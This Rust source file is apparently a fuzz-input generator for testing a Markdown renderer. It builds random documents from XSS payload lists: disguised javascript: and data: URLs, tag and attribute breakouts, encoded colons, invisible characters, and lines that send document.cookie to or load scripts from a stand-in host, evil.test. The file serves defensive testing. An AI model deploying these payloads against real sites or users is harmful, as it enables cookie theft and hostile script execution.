//! Texts of attackers, at random: a way to run something, in a disguise, at a place where it might
//! get through.

use crate::random::Random;

/// What an attacker wants to run.
const CODE: &[&str] = &[
    "pwned()",
    "alert(1)",
    "alert`1`",
    "alert(document.domain)",
    "eval('pwned()')",
    "top['pwned']()",
    "location='//evil.test/'+document.cookie",
    "fetch('//evil.test')",
    "import('//evil.test/m.js')",
    "document.body.innerHTML=1",
    "%70wned()",
    "//%0Apwned()",
    "/*`/*'/*\"/**/pwned()//",
];

/// What makes a URL of code.
const SCHEMES: &[&str] = &[
    "javascript:",
    "javascript:",
    "javascript:",
    "javascript://a.b/%0A",
    "javascript://",
    "jscript:",
    "livescript:",
    "mocha:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:,",
    "data:image/svg+xml,",
    "data:image/png;,",
    "data:image/png,text/html,",
    "data:text/html;image/png,",
    "file:///",
    "file:",
    "feed:javascript:",
    "view-source:javascript:",
    "jar:javascript:",
    "blob:https://a.b/",
    "about:blank#",
    "https:javascript:",
    "http://a.b/javascript:",
    "mailto:javascript:",
    "//evil.test/",
    "\\\\evil.test\\",
    "x:",
    "",
];

/// What hides in a URL without a browser minding, or so that a careless check does not see it.
const SPECKS: &[&str] = &[
    "\t",
    "\n",
    "\r",
    " ",
    "\0",
    "\u{1}",
    "\u{b}",
    "\u{c}",
    "\u{1f}",
    "\u{7f}",
    "\u{85}",
    "\u{a0}",
    "\u{ad}",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{2028}",
    "\u{2066}",
    "\u{3000}",
    "\u{feff}",
    "\u{fffd}",
    "\u{e0001}",
    "\\",
    "/",
    "%00",
    "%09",
    "%0a",
    "%0D%0A",
    "%20",
    "&Tab;",
    "&NewLine;",
    "&#9;",
    "&#10",
    "&#x0A;",
    "&#13;",
    "&#0;",
    "&#1;",
    "&#x00000020;",
    "&shy;",
    "&nbsp;",
    "&zwnj;",
    "&amp;#9;",
    "<!---->",
    "*",
    "_",
    "`",
];

/// Other ways to write `:`.
const COLONS: &[&str] = &[
    ":",
    ":",
    "&colon;",
    "&#58;",
    "&#58",
    "&#x3a;",
    "&#0000058",
    "&amp;colon;",
    "%3A",
    "\\:",
    "：",
    "&#x3a",
    "﹕",
];

/// What breaks out of an attribute, a tag, a comment or a code block, if it is let.
const BREAKOUTS: &[&str] = &[
    "\" onmouseover=\"{c}",
    "' onmouseover='{c}",
    "\" autofocus onfocus=\"{c}\" x=\"",
    "\"onload={c} \"",
    "` onclick=`{c}",
    "\\\" onerror=\\\"{c}",
    "&quot; onclick=&quot;{c}",
    "&#34; onclick=&#34;{c}",
    "&#x22;&#x3e;&#x3c;script&#x3e;{c}",
    "\"><script>{c}</script>",
    "'><script>{c}</script>",
    "><img src=x onerror={c}>",
    "\"/><svg/onload={c}>",
    "--><script>{c}</script>",
    "--!><script>{c}</script>",
    "]]><script>{c}</script>",
    "?><script>{c}</script>",
    "</title><script>{c}</script>",
    "</textarea><script>{c}</script>",
    "</style><script>{c}</script>",
    "</code></pre><script>{c}</script>",
    "</a><a href=\"{u}\">x</a>",
    "</div></td></table><script>{c}</script>",
    "<script>{c}</script>",
    "<script\n>{c}</script\n>",
    "<SCRIPT/x>{c}</SCRIPT>",
    "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script src=//evil.test/s.js></script>",
    "<script \u{2028}>{c}</script>",
    "<scr\0ipt>{c}</scr\0ipt>",
    "\u{ff1c}script\u{ff1e}{c}\u{ff1c}/script\u{ff1e}",
    "<svg onload={c}>",
    "<svg><script>{c}</script></svg>",
    "<svg><style><img src=x onerror={c}></style></svg>",
    "<svg><a xlink:href=\"{u}\"><text>x</text></a></svg>",
    "<svg><animate onbegin={c} attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={c}&gt;\">",
    "<math href=\"{u}\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<iframe src=\"{u}\"></iframe>",
    "<iframe srcdoc=\"<script>{c}</script>\"></iframe>",
    "<object data=\"{u}\"></object>",
    "<embed src=\"{u}\">",
    "<base href=\"//evil.test/\">",
    "<base href=\"{u}\">",
    "<meta http-equiv=refresh content=\"0;url={u}\">",
    "<link rel=stylesheet href=\"{u}\">",
    "<style>@import '//evil.test/s.css';</style>",
    "<p style=\"background:url(//evil.test/i.png)\">",
    "<form action=\"{u}\"><button>x</button></form>",
    "<button formaction=\"{u}\">x</button>",
    "<isindex action=\"{u}\" type=image>",
    "<input type=image src=x onerror={c}>",
    "<details open ontoggle={c}>",
    "<video><source onerror={c}></video>",
    "<audio src=x onerror={c}>",
    "<marquee onstart={c}>",
    "<body onload={c}>",
    "<template shadowrootmode=open><script>{c}</script></template>",
    "<select><style></select><img src=x onerror={c}>",
    "<xmp><p title=\"</xmp><img src=x onerror={c}>\">",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<!--",
    "<!-->",
    "<![CDATA[",
    "<?xml-stylesheet href=\"{u}\"?>",
    "<!DOCTYPE x [<!ENTITY y \"{c}\">]>",
    "<a href=\"{u}\">x</a>",
    "<a href='{u}' target=_blank ping=//evil.test>x</a>",
    "<a href=\"https://a.b\" onclick={c}>x</a>",
    "<img name=cookie>",
    "<form id=location><input name=href></form>",
    "<img src=\"{u}\" onerror={c}>",
    "<img srcset=\"{u} 1x\" src=x>",
    "<IMG \"\"\"><SCRIPT>{c}</SCRIPT>\">",
    "<<script>{c}//<</script>",
    "<div data-fragment=\"0\">",
    "</div><i data-end></i>",
    "{{constructor.constructor('{c}')()}}",
    "${{c}}",
];

/// Texts that become names: ids of headings and footnotes.
const NAMES: &[&str] = &[
    "location",
    "cookie",
    "body",
    "config",
    "constructor",
    "__proto__",
    "toString",
    "fn 1",
    "fn-1",
    "fnref1",
    "fnref-1",
    "user-content-x",
    "forms",
    "top",
    "data-fragment",
    "é\u{301}",
    "\u{202e}x",
    "x\" onclick=\"y",
    "-",
    "",
];

/// Places for a URL (`{u}`) and for a text (`{t}`).
const PLACES: &[&str] = &[
    "[x]({u})",
    "[x]({u})",
    "[x](<{u}>)",
    "[x]( {u} )",
    "[x]({u} \"{t}\")",
    "[x]({u} '{t}')",
    "[x](/u ({t}))",
    "[{t}]({u})",
    "![x]({u})",
    "![{t}]({u} \"{t}\")",
    "![x](<{u}>)",
    "[![x]({u})]({u})",
    "![[{t}]({u})](/i)",
    "<{u}>",
    "<{t}>",
    "<http://a.b/{t}>",
    "<mailto:{t}@a.b>",
    "<{t}@a.b>",
    "[x]\n\n[x]: {u}",
    "[x]\n\n[x]: <{u}> '{t}'",
    "[{t}]\n\n[{t}]: {u} \"{t}\"",
    "![x][y]\n\n[y]:\n{u}\n'{t}'",
    "[x][]\n\n> [x]: {u}",
    "{u}",
    "*{u}*",
    "({u})",
    "http://{u}",
    "http://a.b/{u}",
    "https://a.b/?{t}",
    "https://a.b/#{t}",
    "https://{t}@a.b",
    "https://a.b:{t}",
    "http://[{t}]/",
    "www.a.b/{u}",
    "www.{t}",
    "ftp://{t}",
    "{t}@a.b",
    "a@b.{t}",
    "mailto:{t}@a.b?subject={t}",
    "xmpp:a@b.c/{t}",
    "a.com/{t}",
    "{t}",
    "{t}",
    "{t} https://a.b {t}",
    "\\{t}",
    "*{t}*",
    "**_{t}_**",
    "~~{t}~~",
    "`{t}`",
    "``{t}",
    "$ {t}$",
    "${t}$",
    "$${t}$$",
    "$`{t}`$",
    "# {t}",
    "# [x]({u} \"{t}\")",
    "## {n}",
    "# {n}\n\n# {n}\n\n[^{n}]\n\n[^{n}]: {t}",
    "{t}\n===",
    "> {t}",
    "> [!NOTE]\n> {t}",
    "> [!{t}]\n> x",
    "> [!WARNING] {t}\n> [x]({u})",
    "- {t}\n- [x] [x]({u})",
    "- [{t}] x",
    "1. {t}",
    "| {t} | [x]({u}) |\n|-|-|\n| {t} | `{t}` |",
    "|{t}\n|:-:|\n|{u}",
    "```{t}\n{t}\n```",
    "~~~ {t} {t}\n</code></pre>",
    "```math\n{t}\n```",
    "```mermaid\n{t}",
    "    {t}",
    "[^1]\n\n[^1]: [x]({u}) {t}",
    "[^{t}]\n\n[^{t}]: {t}",
    "[^{n}][^{n}]\n\n[^{n}]: x",
    "---\ntitle: {t}\n---\n\n# {t}",
    "+++\ntitle = \"{t}\"\n+++\n{t}",
    "---\n{t}\n...\n",
    "<div>\n{t}\n</div>",
    "<div {t}>\n\n[x]({u})",
    "<!-- {t} -->\n{t}",
    "<!-- {t}",
    "<?{t}?>{t}",
    "<!A {t}>{t}",
    "<![CDATA[{t}]]>",
    "<a href=\"{u}\">{t} https://a.b",
    "<b title=\"{t}\">x</b>",
    "<{t} x='{t}'>",
    "[[[[[[{t}]({u})]({u})]({u})",
    "[x]({u}\n\n{t})",
    "a&{t};",
    "{t}\\\n{t}  \n{u}",
];

/// A source of texts. The same seed gives the same texts.
pub(crate) struct Attacker {
    random: Random,
}

impl Attacker {
    pub(crate) fn new(seed: u64) -> Attacker {
        Attacker { random: Random::new(seed) }
    }

    /// A document of an attacker.
    pub(crate) fn text(&mut self) -> String {
        let mut text = self.place(2);
        while self.random.one_in(3) {
            let gap = self.random.pick(&["\n\n", "\n", " ", ""]);
            text = text + gap + &self.place(1);
        }
        if self.random.one_in(2) {
            self.wound(&mut text);
        }
        text
    }

    /// A document with a title of the attacker's.
    pub(crate) fn titled(&mut self) -> String {
        let head = self.random.pick(&[
            "---\ntitle: {t}\n---\n",
            "---\ntitle: \"{t}\"\n---\n",
            "+++\ntitle = '{t}'\n+++\n",
            "# {t}\n",
            "{t}\n===\n",
            "",
        ]);
        self.fill(head, 1) + &self.text()
    }

    /// A place with its holes filled, by other places as long as `depth` allows.
    fn place(&mut self, depth: usize) -> String {
        let place = self.random.pick(PLACES);
        self.fill(place, depth)
    }

    fn fill(&mut self, pattern: &str, depth: usize) -> String {
        let mut out = String::new();
        let mut rest = pattern;
        while let Some(at) = rest.find('{') {
            out.push_str(&rest[..at]);
            let hole = rest.get(at..at + 3).unwrap_or_default();
            match hole {
                "{u}" => out.push_str(&self.url()),
                "{t}" if depth > 0 && self.random.one_in(5) => out.push_str(&self.place(depth - 1)),
                "{t}" => out.push_str(&self.breakout()),
                "{c}" => out.push_str(self.random.pick(CODE)),
                "{n}" => out.push_str(self.random.pick(NAMES)),
                _ => out.push('{'),
            }
            rest = &rest[at + if matches!(hole, "{u}" | "{t}" | "{c}" | "{n}") { 3 } else { 1 }..];
        }
        out + rest
    }

    /// Something that breaks out of where it is.
    pub(crate) fn breakout(&mut self) -> String {
        let pattern = self.random.pick(BREAKOUTS);
        self.fill(pattern, 0)
    }

    /// A URL that runs something, disguised.
    pub(crate) fn url(&mut self) -> String {
        let scheme = self.random.pick(SCHEMES);
        let disguises = self.random.below(4);
        let mut url = String::new();
        for letter in scheme.chars() {
            if disguises > 0 && self.random.one_in(8) {
                url.push_str(self.random.pick(SPECKS));
            }
            match letter {
                ':' if disguises > 0 => url.push_str(self.random.pick(COLONS)),
                _ if disguises > 1 && self.random.one_in(4) => url.push_str(&self.disguised(letter)),
                _ if self.random.one_in(6) => url.push(letter.to_ascii_uppercase()),
                _ => url.push(letter),
            }
        }
        if self.random.one_in(8) {
            url.insert_str(0, self.random.pick(SPECKS));
        }
        url + self.random.pick(CODE)
    }

    /// Another way to write a letter.
    fn disguised(&mut self, letter: char) -> String {
        let code = u32::from(letter);
        match self.random.below(8) {
            0 => format!("&#{code};"),
            1 => format!("&#x{code:X};"),
            2 => format!("&#{code:07}"),
            3 => format!("%{code:02x}"),
            4 => format!("\\{letter}"),
            // Letters that become this one when cases are folded, or when it is made wide.
            5 => match letter {
                's' => "ſ".into(),
                'i' => "ı".into(),
                'k' => "\u{212a}".into(),
                _ => char::from_u32(code + 0xfee0)
                    .filter(|_| letter.is_ascii_graphic())
                    .unwrap_or(letter)
                    .into(),
            },
            6 => format!("&amp;#{code};"),
            _ => letter.to_uppercase().collect(),
        }
    }

    /// Changes a few places at random: what was built too well is tried a little broken.
    fn wound(&mut self, text: &mut String) {
        for _ in 0..=self.random.below(3) {
            let places: Vec<usize> = text.char_indices().map(|(at, _)| at).collect();
            if places.is_empty() {
                return;
            }
            let at = self.random.pick(&places);
            match self.random.below(4) {
                0 => drop(text.remove(at)),
                1 => text.insert_str(at, self.random.pick(SPECKS)),
                2 => text.insert_str(
                    at,
                    self.random.pick(&[
                        "\"", "'", "<", ">", "&", "[", "]", "(", ")", "|", "`", "\n", "\n\n", "$", "](",
                    ]),
                ),
                _ => {
                    let other = self.breakout();
                    text.insert_str(at, &other);
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_texts_and_every_place_is_reached() {
        let texts = |seed| {
            let mut attacker = Attacker::new(seed);
            (0..2000).map(|_| attacker.text()).collect::<Vec<_>>()
        };
        assert_eq!(texts(1), texts(1));
        assert_ne!(texts(1), texts(2));
        let all = texts(3).concat();
        for part in ["javascript", "onerror", "&colon;", "[^", "```", "> [!", "---\ntitle", "\0", "|-|"] {
            assert!(all.contains(part), "{part:?}");
        }
        assert!(!all.contains("{t}") && !all.contains("{u}"), "a hole was left open");
    }
}
